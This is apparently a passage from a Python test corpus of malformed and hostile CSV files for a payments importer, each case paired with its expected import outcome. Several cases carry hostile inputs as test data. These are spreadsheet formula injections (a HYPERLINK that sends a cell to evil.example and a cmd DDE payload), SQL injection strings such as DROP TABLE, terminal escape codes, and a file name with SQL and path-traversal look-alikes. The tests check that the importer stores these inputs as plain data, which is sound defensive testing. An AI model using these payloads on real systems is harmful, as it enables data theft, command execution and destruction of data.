"""The malformed-input corpus: hostile and broken CSV files, each with its expected outcome.

Every case is a real file (bytes, or a generator that streams a big one to disk) and the
outcome written by hand from domain.md ("The extracts", "Bad input") and README.md
("Importing: what the importer accepts and refuses"), never copied from the importer's output:

- ``imported``: every row accepted (``accepted`` new rows, ``duplicate`` identical to loaded);
- ``partial``: the valid rows imported, each refused line listed with a substring of its
  reason (``refused`` maps a spreadsheet line number, header = 1, to a regular expression);
- ``refused``: the file refused whole, ``reason`` a regular expression of the message.

``stored`` optionally pins what the database holds afterwards: a query over the rows of the
new import (``$import_id``) and its expected rows.

The files run against the base database of tests/reliability/base.py (payments B1-B6 of
accounts A1-A4 are loaded; B1 is ``B1,A1,2026-09-10,500.00,,bank_transfer,``).
"""

from __future__ import annotations

import codecs
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Literal

from tests.reliability.base import ACC_HEADER, PAY_HEADER

Outcome = Literal["imported", "partial", "refused"]
Writer = Callable[[Path], None]

MB = 1 << 20
# The long-line case: 50 MB in CI; the issue's 2 GB line runs in the soak target only
# (streaming 2 GB to disk and hashing it takes about a minute on the CI machine).
LONG_LINE_BYTES = 2 * 1024 * MB if os.environ.get("SOAK") == "1" else 50 * MB


@dataclass(frozen=True)
class Case:
    """One corpus file and its expected outcome."""

    name: str
    what: str  # the hostile or broken thing, in words
    content: bytes | Writer
    outcome: Outcome
    kind: str | None = "payments"  # None: detected from the header (a bare FILE)
    accepted: int = 0
    duplicate: int = 0
    refused: dict[int, str] = field(default_factory=dict)
    refused_total: int | None = None  # when ``refused`` lists only some of the lines
    reason: str = ""
    stored: tuple[str, list[tuple[object, ...]]] | None = None
    file_name: str | None = None  # the name the file is uploaded under
    as_of: str | None = None
    strict: bool = False
    user_map: dict[str, str] = field(default_factory=dict)
    big: bool = False  # streamed to disk; deleted right after its test

    def write(self, path: Path) -> None:
        if isinstance(self.content, bytes):
            path.write_bytes(self.content)
        else:
            self.content(path)


def pay(*rows: str, header: str = PAY_HEADER) -> bytes:
    return (header + "".join(r + "\n" for r in rows)).encode("utf-8")


def ok(n: int, day: int = 1, amount: str = "10.00") -> str:
    """A valid payment row P<n> of account A1."""
    return f"P{n},A1,2026-11-{day:02d},{amount},G1,card,"


OK2 = (ok(1), ok(2, 2))
CHANNEL = "select payment_id, channel from raw_payments where import_id = $import_id order by 1"
AMOUNTS = "select payment_id, amount from raw_payments where import_id = $import_id order by 1"
DATES = "select payment_id, payment_date from raw_payments where import_id = $import_id order by 1"


def acc(*rows: str) -> bytes:
    return (ACC_HEADER + "".join(r + "\n" for r in rows)).encode("utf-8")


def acc_row(account: str, dpd: str = "30", **over: str) -> str:
    values = {
        "as_of": "2026-11-30",
        "portfolio": "BANK_A",
        "placed_on": "2026-01-15",
        "placed": "5000.00",
        "balance": "4000.00",
        "agent": "G1",
        "status": "open",
        "name": "",
        "phone": "",
        "id_number": "",
    } | over
    v = values
    return (
        f"{account},{v['as_of']},{v['portfolio']},{v['placed_on']},{v['placed']},"
        f"{v['balance']},{dpd},{v['agent']},{v['status']},,{v['name']},{v['phone']},"
        f"{v['id_number']}"
    )


# --- generators for files too big to hold in memory ---------------------------------------


def _rows(n: int, prefix: str = "Q") -> bytes:
    return "".join(f"{prefix}{i},A1,2026-11-01,1.00,G1,card,\n" for i in range(n)).encode()


def long_line(path: Path) -> None:
    """A valid row, then one row whose channel is LONG_LINE_BYTES long, then a valid row."""
    chunk = b"x" * (4 * MB)
    with path.open("wb") as f:
        f.write(pay(ok(1)))
        f.write(b"P2,A1,2026-11-02,10.00,G1,")
        left = LONG_LINE_BYTES
        while left > 0:
            f.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)
        f.write(b",\n" + ok(3, 3).encode() + b"\n")


def long_quoted_line(path: Path) -> None:
    """A 20 MB row of an unquoted then a quoted field (the quote opens past 8 MB), then a row."""
    with path.open("wb") as f:
        f.write(pay(ok(1)))
        f.write(b"P2,A1,2026-11-02,-10.00,G1," + b"x" * (10 * MB) + b',"')
        f.write(b'y""z' * (2 * MB + 1) + b'"\n')
        f.write(ok(3, 3).encode() + b"\n")


def long_gbk_line(path: Path) -> None:
    """A GBK file with a 20 MB row of Chinese text between two valid rows."""
    with path.open("wb") as f:
        f.write((PAY_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK},\n").encode("gbk"))
        f.write(b"P2,A1,2026-11-02,10.00,G1," + "银行".encode("gbk") * (5 * MB) + b",\n")
        f.write(f"P3,A1,2026-11-03,10.00,G1,{BANK},\n".encode("gbk"))


def long_header(path: Path) -> None:
    """A 'header' line of 3 MB: no CSV header is that long."""
    with path.open("wb") as f:
        f.write(b"payment_id,account_id,payment_date,amount," + b"y" * (3 * MB) + b"\n")
        f.write(ok(1).encode() + b"\n")


def thousand_columns(path: Path) -> None:
    """1,000 columns: the 4 required ones among 996 unknown ones; 300 rows."""
    extra = [f"extra_{i}" for i in range(996)]
    head = ["payment_id", *extra[:400], "account_id", "payment_date", *extra[400:], "amount"]
    with path.open("w", encoding="utf-8") as f:
        f.write(",".join(head) + "\n")
        for i in range(300):
            cells = [f"W{i}", *["z"] * 400, "A1", "2026-11-03", *["z"] * 596, "7.00"]
            f.write(",".join(cells) + "\n")


def thousand_fields_in_a_row(path: Path) -> None:
    """A row with 1,000 fields under a 7-column header."""
    with path.open("w", encoding="utf-8") as f:
        f.write(PAY_HEADER + ok(1) + "\n")
        f.write(",".join(["P2", "A1", "2026-11-02", "1.00"] + ["q"] * 996) + "\n")
        f.write(ok(3, 3) + "\n")


def nul_after_first_megabyte(path: Path) -> None:
    """2 MB of valid rows, then a row with a NUL byte (beyond the 1 MB the reader samples)."""
    with path.open("wb") as f:
        f.write(pay())
        f.write(_rows(50_000))
        f.write(b"Z1,A1,2026-11-01,1.00,G1,ca\x00rd,\n")


def gbk_row_after_first_megabyte(path: Path) -> None:
    """A UTF-8 file whose row after 2 MB is GBK (mixed encodings beyond the sample)."""
    with path.open("wb") as f:
        f.write(pay())
        f.write(_rows(50_000))
        f.write("Z1,A1,2026-11-01,1.00,G1,银行转账,\n".encode("gbk"))


def many_bad_rows(path: Path) -> None:
    """20,000 rows, every tenth with an amount that is not money."""
    with path.open("wb") as f:
        f.write(pay())
        for i in range(20_000):
            amount = '"12,34"' if i % 10 == 9 else "3.00"
            f.write(f"M{i},A2,2026-11-05,{amount},G1,card,\n".encode())


SIX = PAY_HEADER.replace(",reverses_payment_id", "")  # the channel last
GBK_HEADER = "还款流水号,账号,还款日期,还款金额,催收员,还款渠道\n"
BANK = "银行转账"

CASES: tuple[Case, ...] = (
    # --- not a CSV text file at all: refused whole, nothing written -----------------------
    Case("empty", "a zero-byte file", b"", "refused", reason="the file is empty"),
    Case("header_only", "a header and no rows", pay(), "refused", reason="no data rows"),
    Case(
        "blank_first_line",
        "an empty line before the header",
        b"\n" + pay(*OK2),
        "refused",
        reason="first line is blank",
    ),
    Case(
        "whitespace_first_line",
        "spaces and a tab before the header",
        b"  \t \n" + pay(*OK2),
        "refused",
        reason="first line is blank",
    ),
    Case(
        "png_image",
        "a PNG image uploaded as CSV",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)),
        "refused",
        reason="not text|NUL bytes",
    ),
    Case(
        "xlsx_zip",
        "a damaged .xlsx workbook (a zip) uploaded as CSV: read as a workbook since issue 13",
        b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + bytes(range(200)),
        "refused",
        reason="looks like a spreadsheet .* cannot be read as one",
    ),
    Case(
        "pdf_document",
        "a PDF document",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n\xff\xd8\xff\x00",
        "refused",
        reason="not text|NUL bytes|kind of extract",
    ),
    Case(
        "json_array",
        "a JSON export instead of CSV",
        b'[{"payment_id": "P1", "amount": 10}]\n',
        "refused",
        kind=None,
        reason="cannot tell what kind of extract",
    ),
    Case(
        "nul_in_field",
        "a NUL byte inside a field",
        pay(ok(1), "P2,A1,2026-11-02,10.00,G1,ca\x00rd,"),
        "refused",
        reason="NUL bytes",
    ),
    Case(
        "nul_after_1mb",
        "a NUL byte 2 MB into the file, past the reader's sample",
        nul_after_first_megabyte,
        "refused",
        reason="NUL bytes",
    ),
    Case(
        "latin1_file",
        "a Latin-1 (Windows-1252) file: neither UTF-8 nor GBK",
        pay("P1,A1,2026-11-01,1.00,G1,Jos\u00e9 Mu\u00f1oz,").decode().encode("latin-1"),
        "refused",
        reason="not text in UTF-8 or GBK",
    ),
    Case(
        "utf16_without_bom",
        "UTF-16 text without a byte-order mark (every other byte is NUL)",
        pay(*OK2).decode().encode("utf-16-le"),
        "refused",
        reason="NUL bytes",
    ),
    Case(
        "long_header_line",
        "a first line of 3 MB",
        long_header,
        "refused",
        reason="longer than 1 MB",
    ),
    # --- header problems: refused whole ----------------------------------------------------
    Case(
        "duplicate_header",
        "the column amount twice",
        b"payment_id,account_id,payment_date,amount,amount\nP1,A1,2026-11-01,1.00,2.00\n",
        "refused",
        reason="'amount' and 'amount' both mean amount",
    ),
    Case(
        "duplicate_header_synonym",
        "amount and its Chinese synonym 还款金额 in one header",
        "payment_id,account_id,payment_date,amount,还款金额\nP1,A1,2026-11-01,1.00,2.00\n".encode(),
        "refused",
        reason="both mean amount",
    ),
    Case(
        "missing_required_column",
        "a payments file without payment_date",
        b"payment_id,account_id,amount\nP1,A1,1.00\n",
        "refused",
        reason="missing required column payment_date",
    ),
    Case(
        "wrong_kind",
        "an accounts snapshot uploaded as payments",
        acc(acc_row("A9")),
        "refused",
        reason="looks like a accounts extract|not payments",
    ),
    Case(
        "headerless_data",
        "a file without a header row (the first line is data)",
        b"P1,A1,2026-11-01,10.00,G1,card,\nP2,A1,2026-11-02,10.00,G1,card,\n",
        "refused",
        reason="missing required column",
    ),
    Case(
        "thousand_unknown_columns",
        "1,000 columns, none of them known",
        (",".join(f"c{i}" for i in range(1000)) + "\n" + ",".join("1" * 1000) + "\n").encode(),
        "refused",
        kind=None,
        reason="cannot tell what kind of extract",
    ),
    Case(
        "cr_only_header_refused_kind",
        "old Mac line ends (CR only) in a file of unknown kind",
        b"foo,bar\rP1,A1\r",
        "refused",
        kind=None,
        reason="cannot tell what kind of extract",
    ),
    # --- encodings ---------------------------------------------------------------------------
    Case(
        "utf8_bom",
        "UTF-8 with a byte-order mark (Excel's 'CSV UTF-8')",
        codecs.BOM_UTF8 + pay(*OK2),
        "imported",
        accepted=2,
    ),
    Case(
        "utf16_le_bom",
        "UTF-16 little-endian with BOM (Excel's 'Unicode text')",
        pay(ok(1), f"P2,A1,2026-11-02,10.00,G1,{BANK},").decode().encode("utf-16"),
        "imported",
        accepted=2,
        stored=(CHANNEL, [("P1", "card"), ("P2", "bank_transfer")]),
    ),
    Case(
        "utf16_be_bom",
        "UTF-16 big-endian with BOM",
        codecs.BOM_UTF16_BE + pay(*OK2).decode().encode("utf-16-be"),
        "imported",
        accepted=2,
    ),
    Case(
        "gbk_chinese",
        "GBK with Chinese headers and values",
        (GBK_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK}\nP2,A1,2026/11/02,20.00,,微信\n").encode(
            "gbk"
        ),
        "imported",
        kind=None,
        accepted=2,
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P2", "wallet")]),
    ),
    Case(
        "mixed_utf8_with_a_gbk_row",
        "UTF-8 rows and one GBK row in the first megabyte",
        pay(f"P1,A1,2026-11-01,10.00,G1,{BANK},")
        + f"P2,A1,2026-11-02,10.00,G1,{BANK},\n".encode("gbk")
        + f"P3,A1,2026-11-03,10.00,G1,微信,\nP4,A1,2026-11-04,10.00,G1,{BANK},\n".encode(),
        "partial",
        accepted=3,
        refused={3: "mixed encodings"},
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P3", "wallet"), ("P4", "bank_transfer")]),
    ),
    Case(
        "mixed_gbk_with_a_utf8_row",
        "GBK rows and one UTF-8 row",
        (PAY_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK},\n").encode("gbk")
        + f"P2,A1,2026-11-02,10.00,G1,{BANK},\n".encode()
        + f"P3,A1,2026-11-03,10.00,G1,微信,\nP4,A1,2026-11-04,10.00,G1,{BANK},\n".encode("gbk"),
        "partial",
        accepted=3,
        refused={3: "mixed encodings"},
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P3", "wallet"), ("P4", "bank_transfer")]),
    ),
    Case(
        "mixed_encoding_after_1mb",
        "a GBK row 2 MB into a UTF-8 file",
        gbk_row_after_first_megabyte,
        "partial",
        accepted=50_000,
        refused={50_002: "not valid UTF-8|mixed encodings"},
    ),
    Case(
        "gbk_with_a_utf8_latin_row",
        "a GBK file with one UTF-8 row whose bytes are also valid GBK (Müller José -> M眉ller)",
        (PAY_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK},\n").encode("gbk")
        + "P2,A1,2026-11-02,10.00,G1,Müller José,\n".encode()
        + "P3,A1,2026-11-03,10.00,G1,微信,\n".encode("gbk"),
        "partial",
        accepted=2,
        refused={3: "not valid GBK/GB18030 text: it looks like UTF-8"},
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P3", "wallet")]),
    ),
    Case(
        "gbk_with_a_utf8_em_dash",
        "a GBK file with one UTF-8 em dash (not valid GBK: the file was refused whole)",
        (PAY_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK},\n").encode("gbk")
        + "P2,A1,2026-11-02,10.00,G1,card — gold,\n".encode()
        + "P3,A1,2026-11-03,10.00,G1,微信,\n".encode("gbk"),
        "partial",
        accepted=2,
        refused={3: "it looks like UTF-8"},
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P3", "wallet")]),
    ),
    Case(
        "gbk_with_utf8_quotes_and_yen",
        "UTF-8 curly quotes, a yen sign and Chinese in rows of a GBK file",
        (PAY_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK},\n").encode("gbk")
        + "P2,A1,2026-11-02,10.00,G1,“gold”,\nP3,A1,2026-11-03,10.00,G1,¥100,\n".encode()
        + "P4,A1,2026-11-04,10.00,G1,路,\n".encode("gbk")  # 路 is C2 B7, "·" in UTF-8
        + "P5,A1,2026-11-05,10.00,G1,王小明,\n".encode()
        + "".join(f"P{n},A1,2026-11-0{n},10.00,G1,{BANK},\n" for n in (6, 7, 8)).encode("gbk"),
        "partial",  # a GBK file: 4 of its rows are GBK only, 3 are UTF-8
        accepted=5,
        refused={3: "looks like UTF-8", 4: "looks like UTF-8", 6: "looks like UTF-8"},
        stored=(
            CHANNEL,
            [
                ("P1", "bank_transfer"),
                ("P4", "路"),
                ("P6", "bank_transfer"),
                ("P7", "bank_transfer"),
                ("P8", "bank_transfer"),
            ],
        ),
    ),
    Case(
        "utf8_with_a_gbk_row_valid_as_utf8",
        "a UTF-8 file with a GBK row whose bytes are also valid UTF-8 (臋虂 -> ę́)",
        pay(ok(1), "P2,A1,2026-11-02,10.00,G1,Łódź,")
        + "P3,A1,2026-11-03,10.00,G1,臋虂,\n".encode("gbk")
        + "P4,A1,2026-11-04,10.00,G1,Jose\u0301,\n".encode(),
        "partial",
        accepted=3,
        refused={4: "not valid UTF-8 text: it looks like GBK"},
        stored=(CHANNEL, [("P1", "card"), ("P2", "Łódź"), ("P4", "Jose\u0301")]),
    ),
    Case(
        "utf16_odd_last_byte",
        "UTF-16 whose last character is cut in half (an odd number of bytes)",
        pay(ok(1), "P2,A1,2026-11-02,10.00,G1,card,").decode().encode("utf-16") + b"\x30",
        "partial",
        accepted=2,
        refused={4: "UTF-16 text: the file ends in the middle of a character"},
    ),
    Case(
        "utf16_lone_surrogate",
        "UTF-16 with half of a surrogate pair in a row",
        codecs.BOM_UTF16_LE
        + pay(ok(1)).decode().encode("utf-16-le")
        + "P2,A1,2026-11-02,10.00,G1,ca".encode("utf-16-le")
        + b"\x00\xdc"
        + f"rd,\n{ok(3, 3)}\n".encode("utf-16-le"),
        "partial",
        accepted=2,
        refused={3: "not valid UTF-16 text"},
        stored=(CHANNEL, [("P1", "card"), ("P3", "card")]),
    ),
    Case(
        "utf8_cut_mid_character",
        "the file ends in the middle of a UTF-8 character",
        pay(ok(1)) + "P2,A1,2026-11-02,10.00,G1,card,银".encode()[:-1],
        "partial",
        accepted=1,
        refused={3: "not valid UTF-8|mixed encodings"},
    ),
    Case(
        "gbk_cut_mid_character",
        "a GBK file that ends in the middle of a character",
        (
            PAY_HEADER + f"P1,A1,2026-11-01,10.00,G1,{BANK},\nP2,A1,2026-11-02,10.00,G1,card,银"
        ).encode("gbk")[:-1],
        "partial",
        accepted=1,
        refused={3: "GBK|mixed encodings|not valid"},
    ),
    # --- line structure ----------------------------------------------------------------------
    Case("crlf", "Windows line ends", pay(*OK2).replace(b"\n", b"\r\n"), "imported", accepted=2),
    Case(
        "cr_only",
        "old Mac line ends (CR only)",
        pay(*OK2).replace(b"\n", b"\r"),
        "imported",
        accepted=2,
    ),
    Case(
        "mixed_line_ends",
        "CRLF, LF and a last row without a line end",
        (PAY_HEADER.replace("\n", "\r\n") + ok(1) + "\n" + ok(2, 2)).encode(),
        "imported",
        accepted=2,
    ),
    Case(
        "blank_crlf_line_after_lf",
        "a blank CRLF line between LF rows (DuckDB's reader failed: invalid state)",
        pay(ok(1)) + b"\r\n" + pay(ok(2, 2), header=""),
        "imported",
        accepted=2,
    ),
    Case(
        "stray_cr_after_lf",
        "a stray CR after an LF line end",
        pay(ok(1)) + b"\r" + pay(ok(2, 2), "P3,A1,2026-11-03,1.00,G1,card,,x", header=""),
        "partial",
        accepted=2,
        refused={5: "more fields"},  # the CR ends line 3 (blank), as a spreadsheet reads it
    ),
    Case(
        "lf_file_with_a_crlf_row",
        "one CRLF row among LF rows (the last field not empty: DuckDB's reader failed)",
        pay("P1,A1,2026-11-01,10.00,G1,card", "P2,A1,2026-11-02,10.00,G1,card\r", header=SIX),
        "imported",
        accepted=2,
    ),
    Case(
        "crlf_file_with_an_lf_row",
        "one LF row among CRLF rows, and a CRLF inside a quoted field",
        pay("P1,A1,2026-11-01,10.00,G1,card", header=SIX).replace(b"\n", b"\r\n")
        + b"P2,A1,2026-11-02,10.00,G1,cash\n"
        + b'P3,A1,2026-11-03,10.00,G1,"a\r\nb"\r\n',
        "imported",
        accepted=3,
        stored=(CHANNEL, [("P1", "card"), ("P2", "cash"), ("P3", "a\r\nb")]),
    ),
    Case(
        "cr_inside_an_unquoted_field",
        "a lone CR inside an unquoted field of an LF file: a line end, as a spreadsheet reads it",
        pay(ok(1), "P2,A1,2026-11-02,10.00,G1,ca\rrd,", ok(3, 3)),
        "partial",
        accepted=2,
        refused={3: "fewer fields", 4: "fewer fields"},
        stored=(CHANNEL, [("P1", "card"), ("P3", "card")]),
    ),
    Case(
        "quote_in_a_field_then_mixed_line_ends",
        'a quote inside an unquoted field (12"x), then CRLF and CR line ends in an LF file',
        pay(ok(1), 'P2,A1,2026-11-02,10.00,G1,12"x,\r', "P3,A1,2026-11-03,10.00,G1,card,\r")
        + b'P4,A1,2026-11-04,10.00,G1,"a\r\nb",\n',
        "imported",
        accepted=4,
        stored=(CHANNEL, [("P1", "card"), ("P2", '12"x'), ("P3", "card"), ("P4", "a\r\nb")]),
    ),
    Case(
        "gbk_with_mixed_line_ends",
        "a GBK file with CRLF rows, a blank LF line and a stray CR",
        (PAY_HEADER.replace("\n", "\r\n") + f"P1,A1,2026-11-01,10.00,G1,{BANK},\r\n\n\r").encode(
            "gbk"
        )
        + f"P2,A1,2026-11-02,10.00,G1,微信,\r\nP3,A1,2026-11-03,{BANK}\r\n".encode("gbk"),
        "partial",
        accepted=2,
        refused={6: "fewer fields"},
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P2", "wallet")]),
    ),
    Case(
        "blank_lines",
        "blank lines between and after the rows",
        pay(ok(1), "", ok(2, 2), "", ""),
        "imported",
        accepted=2,
    ),
    Case(
        "truncated_row",
        "the last row cut off after the date",
        pay(ok(1)) + b"P2,A1,2026-11-0",
        "partial",
        accepted=1,
        refused={3: "fewer fields"},
    ),
    Case(
        "ragged_fewer",
        "a row with fewer fields than the header",
        pay(ok(1), "P2,A1,2026-11-02,10.00", ok(3, 3)),
        "partial",
        accepted=2,
        refused={3: "fewer fields"},
    ),
    Case(
        "ragged_more",
        "a row with more fields than the header",
        pay(ok(1), "P2,A1,2026-11-02,10.00,G1,card,,extra,more", ok(3, 3)),
        "partial",
        accepted=2,
        refused={3: "more fields"},
    ),
    Case(
        "thousand_fields_row",
        "a row of 1,000 fields under a 7-column header",
        thousand_fields_in_a_row,
        "partial",
        accepted=2,
        refused={3: "more fields"},
    ),
    Case(
        "separators_only",
        "a row of commas only",
        pay(ok(1), ",,,,,,", ok(2, 2)),
        "partial",
        accepted=2,
        refused={3: "missing required value"},
    ),
    Case(
        "text_after_closing_quote",
        'a quoted field followed by text: "card"x',
        pay(ok(1), 'P2,A1,2026-11-02,10.00,G1,"card"x,', ok(3, 3)),
        "partial",
        accepted=2,
        refused={3: "after its closing quote"},
    ),
    Case(
        "unterminated_quote_at_end",
        "the file ends inside a quoted field",
        pay(ok(1)) + b'P2,A1,2026-11-02,"12',
        "partial",
        accepted=1,
        refused={3: "never closed"},
    ),
    Case(
        "stray_opening_quote",
        "a quote opened mid-file and never closed: the rest of the file is one field",
        pay(ok(1), 'P2,A1,2026-11-02,10.00,G1,"card,', ok(3, 3), ok(4, 4)),
        "partial",
        accepted=1,
        refused={3: "never closed"},
    ),
    Case(
        "quote_inside_unquoted_field",
        'a quote inside an unquoted field (ca"rd) is part of the value',
        pay(ok(1), 'P2,A1,2026-11-02,10.00,G1,ca"rd,'),
        "imported",
        accepted=2,
        stored=(CHANNEL, [("P1", "card"), ("P2", 'ca"rd')]),
    ),
    Case(
        "quoted_separators_and_line_breaks",
        "quoted fields holding commas, doubled quotes and a line break",
        pay('P1,A1,2026-11-01,"1,234.56",G1,"card, ""gold""\nline two",', ok(2, 2)),
        "imported",
        accepted=2,
        stored=(CHANNEL, [("P1", 'card, "gold"\nline two'), ("P2", "card")]),
    ),
    Case(
        "long_line",
        f"a row of {LONG_LINE_BYTES // MB:,} MB (the channel field)",
        long_line,
        "partial",
        accepted=2,
        refused={3: "longer than 8 MB"},
        big=True,
    ),
    Case(
        "long_line_with_quotes",
        "a 20 MB row whose last field's opening quote comes after 8 MB",
        long_quoted_line,
        "partial",
        accepted=2,
        refused={3: "longer than 8 MB"},
        big=True,
    ),
    Case(
        "long_gbk_line",
        "a 20 MB row in a GBK file",
        long_gbk_line,
        "partial",
        accepted=2,
        refused={3: "longer than 8 MB"},
        stored=(CHANNEL, [("P1", "bank_transfer"), ("P3", "bank_transfer")]),
        big=True,
    ),
    Case(
        "thousand_columns",
        "1,000 columns, 996 of them unknown (ignored), 300 rows",
        thousand_columns,
        "imported",
        kind=None,
        accepted=300,
    ),
    Case(
        "duplicate_unknown_headers",
        "two unknown columns with the same name (ignored)",
        b"payment_id,account_id,payment_date,amount,note,note\nP1,A1,2026-11-01,1.00,x,y\n",
        "imported",
        accepted=1,
    ),
    Case(
        "semicolons_and_european_decimals",
        "semicolon-separated with 1.234,56 decimals",
        b"payment_id;account_id;payment_date;amount\nP1;A1;2026-11-01;1.234,56\n"
        b"P2;A1;2026-11-02;12,50\nP3;A1;2026-11-03;15.00\n",
        "partial",
        accepted=1,
        refused={2: "not an amount", 3: "not an amount"},
    ),
    # --- values ------------------------------------------------------------------------------
    Case(
        "money_forms",
        "1e400, NaN, inf, 1.234,56, 12.345, 0x10, full-width, over the maximum; 1,234.56, ¥1234",
        pay(
            "P1,A1,2026-11-01,1e400,,,",
            "P2,A1,2026-11-01,NaN,,,",
            "P3,A1,2026-11-01,inf,,,",
            'P4,A1,2026-11-01,"1.234,56",,,',
            "P5,A1,2026-11-01,12.345,,,",
            "P6,A1,2026-11-01,0x10,,,",
            "P7,A1,2026-11-01,１２３,,,",
            'P8,A1,2026-11-01,"1,234.56",,,',
            "P9,A1,2026-11-01,¥1234,,,",
            "P10,A1,2026-11-01,(100.00),,,",
            "P11,A1,2026-11-01,-0.00,,,",
            "P12,A1,2026-11-01,9999999999999999.99,,,",
            "P13,A1,2026-11-01,999999999999999.99,,,",
        ),
        "partial",
        accepted=2,
        refused={
            2: "not an amount",
            3: "not an amount",
            4: "not an amount",
            5: "not an amount",
            6: "more than two decimal",
            7: "not an amount",
            8: "not an amount",
            11: "not an amount",
            12: "is zero",
            13: "above the maximum 999,999,999,999.99",
            14: "above the maximum 999,999,999,999.99",
        },
        stored=(
            AMOUNTS,
            [
                ("P8", Decimal("1234.56")),
                ("P9", Decimal("1234.00")),
            ],
        ),
    ),
    Case(
        "dates",
        "0000-00-00, 9999-12-31, 2026-02-29, 44927 (Excel serial), 10/31/2026, 1899-12-31",
        pay(
            "P1,A1,0000-00-00,1.00,,,",
            "P2,A1,9999-12-31,1.00,,,",
            "P3,A1,2026-02-29,1.00,,,",
            "P4,A1,44927,1.00,,,",
            "P5,A1,10/31/2026,1.00,,,",
            "P6,A1,1899-12-31,1.00,,,",
            "P7,A1,2024-02-29,1.00,,,",
            "P8,A1,2026年11月1日,1.00,,,",
            "P9,A1,20261102,1.00,,,",
            "P10,A1,2026-11-03 00:00:00,1.00,,,",
            "P11,A1,2026-11-03 13:45,1.00,,,",
            "P12,A1,2026-13-01,1.00,,,",
            "P13,A1,44927.5,1.00,,,",
        ),
        "partial",
        accepted=4,
        refused={
            2: "is not a date",
            3: "outside the supported range",
            4: "is not a date",
            5: "spreadsheet serial number",
            6: "ambiguous",
            7: "outside the supported range",
            12: "not a date",
            13: "is not a date",
            14: "spreadsheet serial number",
        },
        stored=(
            DATES,
            [
                ("P10", date(2026, 11, 3)),
                ("P7", date(2024, 2, 29)),
                ("P8", date(2026, 11, 1)),
                ("P9", date(2026, 11, 2)),
            ],
        ),
    ),
    Case(
        "whitespace_only_ids",
        "ids made of spaces, a tab, a no-break, ideographic, em and zero-width spaces",
        pay(
            "   ,A1,2026-11-01,1.00,,,",
            "\t,A1,2026-11-01,1.00,,,",
            "\u00a0,A1,2026-11-01,1.00,,,",
            "\u3000\u3000,A1,2026-11-01,1.00,,,",
            "\u2003,A1,2026-11-01,1.00,,,",
            "\u200b,A1,2026-11-01,1.00,,,",
            "P7, \u2002 ,2026-11-01,1.00,,,",
            "  P8  ,A1,2026-11-01,1.00,,,",
        ),
        "partial",
        accepted=1,
        refused={
            2: "missing required value: payment_id",
            3: "missing required value: payment_id",
            4: "missing required value: payment_id",
            5: "missing required value: payment_id",
            6: "missing required value: payment_id",
            7: "missing required value: payment_id",
            8: "missing required value: account_id",
        },
        stored=("select payment_id from raw_payments where import_id = $import_id", [("P8",)]),
    ),
    Case(
        "invisible_characters_around_ids",
        "a BOM and zero-width spaces around an id are not part of it",
        pay("\ufeffP1,A1,2026-11-01,1.00,,,", "P2\u200b,A1\u2009,2026-11-01,1.00,,,"),
        "imported",
        accepted=2,
        stored=(
            (
                "select payment_id, account_id from raw_payments where import_id = $import_id "
                "order by 1"
            ),
            [("P1", "A1"), ("P2", "A1")],
        ),
    ),
    Case(
        "control_characters_in_ids",
        "an id with a bell and an escape character, an id of 65 characters",
        pay(
            "P\x07,A1,2026-11-01,1.00,,,",
            "P\x1b[2J,A1,2026-11-01,1.00,,,",
            "P" * 65 + ",A1,2026-11-01,1.00,,,",
        ),
        "partial",
        accepted=0,
        refused={2: "control characters", 3: "control characters", 4: "longer than 64"},
    ),
    Case(
        "formulas_in_text_fields",
        "=HYPERLINK(...), =cmd|..., +, -, @ at the start of text fields: kept as data",
        pay(
            'P1,A1,2026-11-01,1.00,G1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",',
            "P2,A1,2026-11-01,1.00,G1,=cmd|' /C calc'!A0,",
            "P3,A1,2026-11-01,1.00,G1,+1+1,",
            "P4,A1,2026-11-01,1.00,G1,-2+3,",
            "P5,A1,2026-11-01,1.00,G1,@SUM(A1:A9),",
        ),
        "imported",
        accepted=5,
        stored=(
            CHANNEL,
            [
                ("P1", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
                ("P2", "=cmd|' /C calc'!A0"),
                ("P3", "+1+1"),
                ("P4", "-2+3"),
                ("P5", "@SUM(A1:A9)"),
            ],
        ),
    ),
    Case(
        "sql_in_values",
        "SQL injection text in ids and free text: stored as data",
        pay(
            "'; DROP TABLE raw_payments; --,A1,2026-11-01,1.00,G1,card,",
            'P2,A1,2026-11-01,1.00,G1,"\'); delete from imports; --",',
            "P3,\"A1' OR '1'='1\",2026-11-01,1.00,G1,card,",
        ),
        "imported",
        accepted=3,
        stored=(
            CHANNEL,
            [
                ("'; DROP TABLE raw_payments; --", "card"),
                ("P2", "'); delete from imports; --"),
                ("P3", "card"),
            ],
        ),
    ),
    Case(
        "sql_in_enum",
        "an accounts status that is SQL text",
        acc(acc_row("A9", status="open'; DROP TABLE raw_accounts; --"), acc_row("A8")),
        "partial",
        kind="accounts",
        accepted=1,
        refused={2: "is not one of"},
    ),
    Case(
        "sql_in_header",
        "an extra column whose header is SQL text (ignored)",
        pay(
            ok(1) + ",x", header=PAY_HEADER.strip() + ',"amount""); DROP TABLE raw_payments; --"\n'
        ),
        "imported",
        accepted=1,
    ),
    Case(
        "hostile_file_name",
        "a file name with quotes, SQL and a path separator look-alike",
        pay(*OK2),
        "imported",
        accepted=2,
        file_name="x'; DROP TABLE imports; --\u2215..\u2215evil.csv",
        stored=(
            "select distinct file_name from imports where import_id = $import_id",
            [("x'; DROP TABLE imports; --\u2215..\u2215evil.csv",)],
        ),
    ),
    Case(
        "zero_and_positive_reversal",
